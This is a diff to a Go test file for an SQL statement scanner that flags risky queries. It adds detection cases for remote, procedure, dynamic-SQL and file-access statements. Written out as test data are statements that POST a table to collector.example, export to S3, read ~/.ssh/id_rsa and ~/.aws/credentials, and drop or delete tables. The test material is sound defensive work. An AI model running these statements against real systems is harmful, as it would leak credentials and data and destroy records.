@@ -45,7 +45,20 @@ func TestKinds(t *testing.T) {
 		{Remote, []string{
 			"SELECT dblink_exec('host=prod', 'DROP TABLE users')", "select * from dblink('dbname=x', 'select 1') as t(a int)",
 			"SELECT dblink_connect('c', 'host=10.0.0.5')",
+			"SELECT * FROM url('https://collector.example/upload', 'CSV', 'a String') SETTINGS http_method='POST'",
+			"INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv') SELECT * FROM t", "select * from remoteSecure('db2:9440', app.t)",
+			"SELECT * FROM OPENQUERY(prod, 'DELETE FROM users')",
 		}},
+		// A procedure's SQL is the database's, which nobody reads first.
+		{Procedure, []string{"CALL purge_all()", "call app.purge(1);", "SELECT 1; CALL p()", "CALL apoc.load.json('file:///home/u/.ssh/id_rsa')", "DO $$ BEGIN CALL p(); END $$"}},
+		// SQL text a function runs is a statement of its own.
+		{Dynamic, []string{
+			"SELECT query_to_xml('delete from users returning 1', true, true, '')",
+			"select Query_To_Xml($$DROP TABLE t$$, true, true, '')", "SELECT query_to_xmlschema(E'update t set a = 1', true, true, '')",
+			"SELECT * FROM ts_stat('DELETE FROM docs RETURNING tsv')", "SELECT query_to_xml('SELECT ' || col, true, true, '') FROM t",
+			"SELECT query_to_xml(q, true, true, '') FROM saved", "SELECT eval('DELETE FROM t')", "FROM query('INSERT INTO t VALUES (1)')",
+		}},
+		{FileAccess, []string{"SELECT * FROM file(concat('/home/u/', x), 'LineAsString')"}},
 	}
 	for _, c := range cases {
 		for _, sql := range c.spellings {
@@ -57,7 +70,7 @@ func TestKinds(t *testing.T) {
 }
 
 func TestNotRisky(t *testing.T) {
-	risky := []string{Drop, Truncate, DeleteNoWhere, UpdateNoWhere, AlterDrop, Stacked, Admin, Remote}
+	risky := []string{Drop, Truncate, DeleteNoWhere, UpdateNoWhere, AlterDrop, Stacked, Admin, Remote, Procedure, Dynamic, FileAccess}
 	safe := []string{
 		"SELECT 1", "select * from t where a = 'DROP TABLE x'", "SELECT 'a;b'",
 		"DELETE FROM t WHERE id = 3", "delete from t\nwhere id in (1,2);", "UPDATE t SET a=1 WHERE b=2",
@@ -68,6 +81,12 @@ func TestNotRisky(t *testing.T) {
 		"SET search_path = app", "SET LOCAL statement_timeout = '5s'", "SELECT pg_catalog.set_config('search_path', '', false)",
 		"SET TRANSACTION READ ONLY", "SELECT 'GRANT ALL TO public'", "SELECT 'pg_terminate_backend(1)'", "CREATE TABLE grants (a int)",
 		"ALTER TABLE roles ADD COLUMN c int", "SELECT * FROM pg_stat_activity",
+		// A function handed SQL that only reads; a table or routine named
+		// like one of those functions; a procedure that only describes.
+		"SELECT query_to_xml('SELECT * FROM users', true, true, '')", "SELECT * FROM query('SELECT 42')",
+		"INSERT INTO url (a, b) VALUES (1, 2)", "CREATE TABLE file (id int)", "CREATE FUNCTION query(x int) RETURNS int AS 'select 1' LANGUAGE sql",
+		"CALL db.labels()", "CALL { MATCH (n) RETURN n }", "SELECT url, file FROM links",
+		"SELECT count() FROM file('data/events.parquet', Parquet)",
 	}
 	for _, sql := range safe {
 		r := Scan(sql)
@@ -94,6 +113,15 @@ func TestDialects(t *testing.T) {
 		if r := Scan(sql); !r.Has(want) {
 			t.Errorf("%q: got %v, want %s", sql, r.Kinds(), want)
 		}
+	}
+}
+
+// TestFiles checks that the files a table function reads are reported,
+// for the caller to judge as reads of those paths.
+func TestFiles(t *testing.T) {
+	r := Scan("SELECT * FROM file('/home/u/.aws/credentials', 'LineAsString') JOIN file($$data/a.csv$$) USING (x)")
+	if got := r.Files(); !slices.Equal(got, []string{"/home/u/.aws/credentials", "data/a.csv"}) {
+		t.Errorf("got %v", got)
 	}
 }
 
